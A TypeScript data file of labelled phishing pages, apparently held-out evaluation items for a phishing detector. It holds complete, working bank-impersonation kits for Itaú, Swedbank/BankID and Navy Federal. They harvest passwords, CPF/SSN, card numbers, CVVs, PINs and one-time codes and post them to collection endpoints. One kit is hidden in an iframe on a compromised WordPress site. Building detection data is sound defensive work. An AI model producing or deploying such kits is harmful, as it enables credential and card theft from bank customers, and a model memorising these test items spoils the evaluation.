import { type Entry, htmlRoute } from '../entry.js';
import { jsonRoute } from '../parts/f-kit.js';

/** Held-out pages by author f, family "phish-banks" (dev split). Hand-written; see ../parts/f-kit.ts for the binary builders. */
export const entries: Entry[] = [
  {
    id: "f-phish-itau-pix-atualizacao",
    label: "phishing",
    kind: "bank-kit-multistep",
    url: "https://itau-atualizacao-cadastral.vercel.app/pf/acesso",
    body: `<!DOCTYPE html>
<html lang="pt-BR">
<head>
<meta charset="UTF-8"><meta name="viewport" content="width=device-width,initial-scale=1.0">
<title>Itaú | Atualização Cadastral Obrigatória</title>
<style>
body{margin:0;font-family:"Itau Display",Helvetica,Arial,sans-serif;background:#fff;color:#252525}
header{background:#ec7000;padding:10px 16px;display:flex;align-items:center;gap:12px}
.lg{width:44px;height:44px;border-radius:8px;background:#003399;display:flex;align-items:center;justify-content:center;color:#ffcc00;font:700 18px Arial;letter-spacing:-1px}
header span{color:#fff;font-size:15px}
.ct{max-width:420px;margin:0 auto;padding:24px 18px}
h2{font-size:20px;margin:8px 0 4px}.sub{color:#666;font-size:14px;margin-bottom:18px}
.fld{margin-bottom:14px}.fld label{font-size:13px;color:#555;display:block;margin-bottom:4px}
.fld input{width:100%;box-sizing:border-box;border:0;border-bottom:2px solid #bbb;padding:10px 2px;font-size:17px;outline:0}
.fld input:focus{border-bottom-color:#ec7000}
.b{width:100%;background:#ec7000;color:#fff;border:0;border-radius:6px;padding:14px;font-size:16px;font-weight:700;margin-top:10px}
.kb{display:grid;grid-template-columns:repeat(3,1fr);gap:8px;margin:12px 0}.kb button{padding:14px;border:1px solid #ddd;background:#f7f7f7;border-radius:6px;font-size:15px}
.pw{letter-spacing:10px;font-size:24px;text-align:center;border-bottom:2px solid #ec7000;min-height:34px}
.alerta{background:#fff4e5;border:1px solid #f5c27a;border-radius:6px;padding:10px;font-size:13px;margin-bottom:16px}
.hid{display:none}.rod{font-size:11px;color:#888;text-align:center;margin-top:30px}
</style>
</head>
<body>
<header><div class="lg">itaú</div><span>Atualização de segurança PIX</span></header>
<div class="ct">
 <div class="alerta">⚠️ Identificamos que seu cadastro está desatualizado. Para continuar usando o PIX e evitar o bloqueio da conta, finalize a atualização em até 24 horas.</div>
 <section id="e1">
  <h2>Acesse sua conta</h2><p class="sub">Informe agência e conta ou CPF</p>
  <div class="fld"><label>Agência</label><input id="ag" inputmode="numeric" maxlength="4"></div>
  <div class="fld"><label>Conta com dígito</label><input id="cc" inputmode="numeric" maxlength="7"></div>
  <div class="fld"><label>CPF</label><input id="cpf" inputmode="numeric" maxlength="14" placeholder="000.000.000-00"></div>
  <button class="b" onclick="ir(2)">Continuar</button>
 </section>
 <section id="e2" class="hid">
  <h2>Senha eletrônica</h2><p class="sub">Digite sua senha de 6 dígitos usando o teclado virtual</p>
  <div class="pw" id="pwv"></div>
  <div class="kb" id="kb"></div>
  <button class="b" onclick="ir(3)">Confirmar</button>
 </section>
 <section id="e3" class="hid">
  <h2>Confirme seu cartão</h2><p class="sub">Para sua segurança, precisamos validar o cartão vinculado</p>
  <div class="fld"><label>Número do cartão</label><input id="nc" inputmode="numeric" maxlength="19"></div>
  <div class="fld"><label>Validade</label><input id="vd" placeholder="MM/AA"></div>
  <div class="fld"><label>CVV</label><input id="cv" inputmode="numeric" maxlength="4"></div>
  <div class="fld"><label>Senha do cartão (4 dígitos)</label><input id="sc" type="password" inputmode="numeric" maxlength="4"></div>
  <button class="b" onclick="ir(4)">Finalizar atualização</button>
 </section>
 <section id="e4" class="hid"><h2>Aguarde…</h2><p class="sub">Estamos sincronizando seu dispositivo com o iToken. Não feche esta página.</p></section>
 <p class="rod">Itaú Unibanco S.A. CNPJ 60.701.190/0001-04 · SAC 0800 728 0728</p>
</div>
<script>
var pw='',dados={};
(function(){var k=document.getElementById('kb'),n=[1,2,3,4,5,6,7,8,9,0].sort(function(){return Math.random()-.5});
n.forEach(function(d){var b=document.createElement('button');b.textContent=d;b.onclick=function(){if(pw.length<6){pw+=d;document.getElementById('pwv').textContent='•'.repeat(pw.length)}};k.appendChild(b)});
var c=document.createElement('button');c.textContent='⌫';c.onclick=function(){pw=pw.slice(0,-1);document.getElementById('pwv').textContent='•'.repeat(pw.length)};k.appendChild(c)})();
function v(i){return (document.getElementById(i)||{}).value||''}
function ir(n){
 if(n===2){dados.ag=v('ag');dados.cc=v('cc');dados.cpf=v('cpf');if(dados.cpf.replace(/\\D/g,'').length!==11){alert('CPF inválido');return}}
 if(n===3){if(pw.length!==6){alert('Digite a senha completa');return}dados.senha=pw}
 if(n===4){dados.cartao=v('nc');dados.val=v('vd');dados.cvv=v('cv');dados.senhacartao=v('sc')}
 dados.etapa=n;
 var x=new XMLHttpRequest();x.open('POST','/api/salvar.php');x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify(dados));
 for(var i=1;i<=4;i++)document.getElementById('e'+i).classList.toggle('hid',i!==n);
 if(n===4)setTimeout(function(){location.href='https://www.itau.com.br/'},6000);
}
</script>
</body>
</html>
`,
    routes: {
      "itau-atualizacao-cadastral.vercel.app/api/salvar.php": jsonRoute({ ok: true }),
    },
  },
  {
    id: "f-phish-bankid-se-klick",
    label: "phishing",
    kind: "bank-kit-clickgate",
    url: "https://swedbank-sakerhet-bankid.com/privat/logga-in/",
    body: `<!doctype html>
<html lang="sv">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Logga in - Swedbank</title>
<style>
body{margin:0;background:#fbf2ea;font-family:"Roboto",Arial,sans-serif;color:#512b2b}
.top{background:#fff;padding:14px 24px;display:flex;align-items:center;gap:10px;border-bottom:1px solid #eadfd6}
.sun{width:30px;height:30px;border-radius:50%;background:radial-gradient(circle at 50% 60%,#ee7023 0 45%,transparent 46%),repeating-conic-gradient(#ee7023 0 10deg,transparent 10deg 30deg);}
.top b{font-size:20px;color:#512b2b}
.gate{max-width:420px;margin:80px auto;text-align:center;background:#fff;padding:36px;border-radius:8px}
.gate button{background:#ee7023;color:#fff;border:0;padding:14px 28px;border-radius:24px;font-size:16px;cursor:pointer}
.box{max-width:440px;margin:40px auto;background:#fff;padding:32px;border-radius:8px;display:none}
.box h1{font-size:22px;margin-top:0}
.box label{display:block;font-size:14px;margin:14px 0 6px}
.box input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #b4a59a;border-radius:4px;font-size:16px}
.box .p{margin-top:18px;width:100%;background:#ee7023;color:#fff;border:0;padding:14px;border-radius:24px;font-size:16px}
.bid{display:flex;align-items:center;gap:10px;background:#f6f6f6;border-radius:6px;padding:10px;margin:12px 0;font-size:13px}
.bid i{display:inline-block;width:28px;height:28px;background:#193e4f;border-radius:4px;color:#fff;font:700 11px/28px Arial;text-align:center;font-style:normal}
#qr{display:none;text-align:center}
#qr canvas{border:8px solid #fff;box-shadow:0 0 0 1px #ddd}
</style>
</head>
<body>
<div class="top"><div class="sun"></div><b>Swedbank</b></div>
<div class="gate" id="gate">
 <h2>Säkerhetskontroll</h2>
 <p>Vi har uppdaterat säkerheten för Mobilt BankID. Klicka nedan för att fortsätta till inloggningen.</p>
 <button id="go">Jag är inte en robot – fortsätt</button>
</div>
<div class="box" id="box">
 <h1>Logga in</h1>
 <div class="bid"><i>iD</i> Mobilt BankID på annan enhet</div>
 <form id="f">
  <label for="pnr">Personnummer (ÅÅÅÅMMDDNNNN)</label><input id="pnr" name="pnr" inputmode="numeric" maxlength="13">
  <label for="tel">Mobilnummer</label><input id="tel" name="tel" type="tel">
  <label for="kort">Kortnummer (för säkerhetsdosa)</label><input id="kort" name="kort" inputmode="numeric">
  <label for="kod">Personlig kod (säkerhetsdosa)</label><input id="kod" name="kod" type="password" maxlength="4">
  <button class="p">Logga in</button>
 </form>
 <div id="qr"><p>Öppna BankID-appen och skanna QR-koden för att bekräfta din identitet.</p><canvas id="cv" width="180" height="180"></canvas><p style="font-size:12px">Väntar på signering…</p></div>
</div>
<script>
document.getElementById('go').addEventListener('click',function(ev){
 if(!ev.isTrusted)return;
 document.getElementById('gate').style.display='none';document.getElementById('box').style.display='block';
});
document.getElementById('f').addEventListener('submit',function(e){
 e.preventDefault();
 var q=new URLSearchParams(new FormData(this));q.set('t',Date.now());
 navigator.sendBeacon('/privat/logga-in/spara.php',q);
 this.style.display='none';document.getElementById('qr').style.display='block';
 var c=document.getElementById('cv').getContext('2d');for(var y=0;y<25;y++)for(var x=0;x<25;x++){if(Math.random()>.5||((x<7||x>17)&&(y<7)))c.fillRect(x*7+2,y*7+2,7,7)}
 setInterval(function(){fetch('/privat/logga-in/status.php?p='+encodeURIComponent(document.getElementById('pnr').value)).then(function(r){return r.json()}).then(function(j){if(j.redirect)location.href=j.redirect}).catch(function(){})},3000);
});
</script>
</body>
</html>
`,
    routes: {
      "swedbank-sakerhet-bankid.com/privat/logga-in/status.php": jsonRoute({ wait: true }),
    },
  },
  {
    id: "f-phish-navyfed-wp-iframe",
    label: "phishing",
    kind: "bank-kit-iframe",
    url: "https://www.brightsmile-dentalcare-tx.com/wp-content/uploads/2025/11/nfcu/index.html",
    body: `<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Navy Federal Credit Union - Sign In</title>
<link rel="shortcut icon" href="data:image/x-icon;base64,AAABAAEAEBAQAAEABAAoAQAAFgAAACgAAAAQAAAAIAAAAAEABAAAAAAAgAAAAAAAAAAAAAAAEAAAAAAAAAAAAAAA">
<style>html,body,iframe{margin:0;padding:0;border:0;width:100%;height:100%;overflow:hidden}</style>
</head>
<body>
<iframe src="https://nfcu-member-services.secure-acct-review.net/signin/?c=2f81" allow="clipboard-write" referrerpolicy="no-referrer" title="Sign In"></iframe>
</body>
</html>
`,
    routes: {
      "nfcu-member-services.secure-acct-review.net/signin/": htmlRoute(`<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Sign In | Navy Federal Credit Union</title>
<style>
body{margin:0;font-family:"Source Sans Pro",Arial,sans-serif;background:#eef1f5;color:#1c2b39}
.hd{background:#002f6c;padding:16px 28px;display:flex;align-items:center;gap:14px;color:#fff}
.hd .em{width:40px;height:40px;border:3px solid #f2b519;border-radius:50%;display:flex;align-items:center;justify-content:center;font:700 14px Georgia;color:#f2b519}
.hd div.t{font-size:18px;letter-spacing:.5px}
.wrap{max-width:440px;margin:40px auto;background:#fff;border-radius:4px;box-shadow:0 2px 8px rgba(0,0,0,.1);padding:32px}
h1{font-size:24px;margin:0 0 6px}.sub{color:#566;margin:0 0 22px;font-size:14px}
label{font-size:14px;font-weight:600;display:block;margin-bottom:6px}
input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #8a97a5;border-radius:3px;margin-bottom:16px;font-size:16px}
button{width:100%;background:#002f6c;color:#fff;border:0;padding:14px;font-size:16px;border-radius:3px;cursor:pointer}
.lk{font-size:14px;margin-top:16px}.lk a{color:#005ba8;display:block;margin-bottom:6px}
.ins{font-size:12px;color:#667;text-align:center;margin-top:24px}
.step{display:none}.step.on{display:block}
</style>
</head>
<body>
<div class="hd"><div class="em">NF</div><div class="t">NAVY FEDERAL<br><small>Credit Union</small></div></div>
<div class="wrap">
 <form id="s1" class="step on">
  <h1>Sign In</h1><p class="sub">Our Members Are the Mission</p>
  <label>Username</label><input name="user" autocomplete="username" required>
  <label>Password</label><input name="pass" type="password" autocomplete="current-password" required>
  <button>Sign In</button>
  <div class="lk"><a href="#">Forgot Username or Password?</a><a href="#">Not enrolled? Enroll now</a></div>
 </form>
 <form id="s2" class="step">
  <h1>Verify Your Identity</h1><p class="sub">We noticed a sign in from a new device. Confirm the following to continue.</p>
  <label>Social Security Number</label><input name="ssn" inputmode="numeric" placeholder="XXX-XX-XXXX" required>
  <label>Date of Birth</label><input name="dob" placeholder="MM/DD/YYYY" required>
  <label>Debit Card Number</label><input name="card" inputmode="numeric" required>
  <label>Expiration</label><input name="exp" placeholder="MM/YY" required>
  <label>CVV</label><input name="cvv" maxlength="4" required>
  <label>Card PIN</label><input name="pin" type="password" maxlength="4" required>
  <button>Continue</button>
 </form>
 <form id="s3" class="step">
  <h1>One-Time Passcode</h1><p class="sub">Enter the 6-digit code we sent to your phone on file.</p>
  <label>Security Code</label><input name="otp" inputmode="numeric" maxlength="6" required>
  <button>Verify</button>
 </form>
 <p class="ins">Federally insured by NCUA. Equal Housing Lender. © 2026 Navy Federal Credit Union.</p>
</div>
<script>
var sess=Math.random().toString(36).slice(2);
['s1','s2','s3'].forEach(function(id,i,arr){
 document.getElementById(id).addEventListener('submit',function(e){
  e.preventDefault();var o={s:sess,step:i+1};new FormData(this).forEach(function(v,k){o[k]=v});
  fetch('/signin/api/collect',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(o)}).finally(function(){
   document.getElementById(id).classList.remove('on');
   if(arr[i+1])document.getElementById(arr[i+1]).classList.add('on');else top.location.href='https://www.navyfederal.org/';
  });
 });
});
</script>
</body>
</html>
`),
      "nfcu-member-services.secure-acct-review.net/signin/api/collect": jsonRoute({ status: 'ok' }),
    },
  },
];
